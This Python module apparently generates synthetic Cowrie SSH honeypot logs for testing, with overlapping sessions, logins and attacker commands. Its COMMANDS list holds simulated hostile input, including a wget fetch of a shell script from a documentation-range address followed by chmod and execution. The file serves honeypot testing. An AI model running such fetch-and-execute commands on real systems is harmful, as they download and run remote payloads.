"""Cowrie logs made up from a seed: sessions that overlap, as many lines as asked for."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from heapq import merge
from itertools import count as counting
from pathlib import Path

START = datetime(2026, 3, 4, 5, 6, 7, tzinfo=UTC)
COMMANDS = (
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "crontab -l",
    "wget http://203.0.113.{n}/x{n}.sh",
    "chmod 777 x{n}.sh; ./x{n}.sh",
    "w",
    "echo {n}",
    "ps aux",
    "free -m",
    "ls -la /tmp/d{n}",
)
_hours = counting(1)
LANES = 8
"""Sessions that are open at the same time."""


@dataclass(frozen=True, slots=True)
class Written:
    """What a made-up log holds."""

    sessions: frozenset[str]
    addresses: frozenset[str]
    lines: int


def lines(count: int, seed: int) -> list[str]:
    """Exactly ``count`` JSON lines in order of time; every session but the cut-off last ones is complete."""
    lanes = [_lane(number, count // LANES + 40, seed) for number in range(LANES)]
    ordered = list(merge(*lanes))
    return [text for _, text in ordered[:count]]


def _lane(number: int, count: int, seed: int) -> Iterator[tuple[str, str]]:
    dice = random.Random(f"{seed}-{number}")
    clock, made, turn = START + timedelta(seconds=number), 0, 0
    while made < count:
        session = f"{number:02x}{seed % 256:02x}{turn:08x}"
        address = f"198.51.{100 + number % 4}.{dice.randrange(1, 40)}"
        for fields, pause in _session(dice, address):
            clock += timedelta(seconds=pause, microseconds=dice.randrange(1000))
            stamp = clock.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
            record = {
                **fields,
                "message": "",
                "sensor": f"gen-{number % 3:02d}",
                "timestamp": stamp,
                "src_ip": address,
                "session": session,
            }
            made += 1
            yield stamp, json.dumps(record)
        turn += 1


def _session(dice: random.Random, address: str) -> Iterator[tuple[dict[str, object], float]]:
    port = dice.randrange(1024, 65535)
    yield (
        {
            "eventid": "cowrie.session.connect",
            "src_port": port,
            "dst_ip": "192.0.2.11",
            "dst_port": 2222,
            "protocol": "ssh",
        },
        dice.uniform(1, 5),
    )
    yield {"eventid": "cowrie.client.version", "version": "SSH-2.0-Go"}, 0.1
    for _ in range(dice.randrange(0, 3)):
        yield {"eventid": "cowrie.login.failed", "username": "root", "password": f"p{port}"}, 0.5
    yield {"eventid": "cowrie.login.success", "username": "root", "password": "a"}, 0.5
    for _ in range(dice.randrange(0, 8)):
        text = dice.choice(COMMANDS).format(n=dice.randrange(1, 250))
        yield {"eventid": "cowrie.command.input", "input": text}, dice.uniform(0.1, 3)
    yield {"eventid": "cowrie.session.closed", "duration": "9.0"}, 1.0


def write_log(path: Path, count: int, seed: int) -> Written:
    """Writes ``count`` lines to ``path`` and tells what must come out of them."""
    made = lines(count, seed)
    path.write_text("".join(f"{line}\n" for line in made), "utf-8")
    return told(made)


def told(made: list[str]) -> Written:
    """Sessions and addresses in ``made``."""
    records = [json.loads(line) for line in made]
    return Written(
        frozenset(r["session"] for r in records), frozenset(r["src_ip"] for r in records), len(records)
    )


def append_session(log: Path, name: str, commands: Sequence[str], address: str = "198.51.100.9") -> None:
    """Appends one whole session, a command a second, that starts an hour after the last one made so."""
    clock = START + timedelta(hours=next(_hours))
    steps: list[dict[str, object]] = [
        {"eventid": "cowrie.session.connect", "src_port": 4242, "dst_ip": "192.0.2.11", "dst_port": 2222, "protocol": "ssh"},
        {"eventid": "cowrie.login.success", "username": "root", "password": "a"},
        *({"eventid": "cowrie.command.input", "input": text} for text in commands),
        {"eventid": "cowrie.session.closed", "duration": "9.0"},
    ]  # fmt: skip
    with log.open("a", encoding="utf-8") as file:
        for second, step in enumerate(steps):
            stamp = (clock + timedelta(seconds=second)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
            about = {
                "message": "",
                "sensor": "gen-00",
                "timestamp": stamp,
                "src_ip": address,
                "session": name,
            }
            file.write(json.dumps({**step, **about}) + "\n")
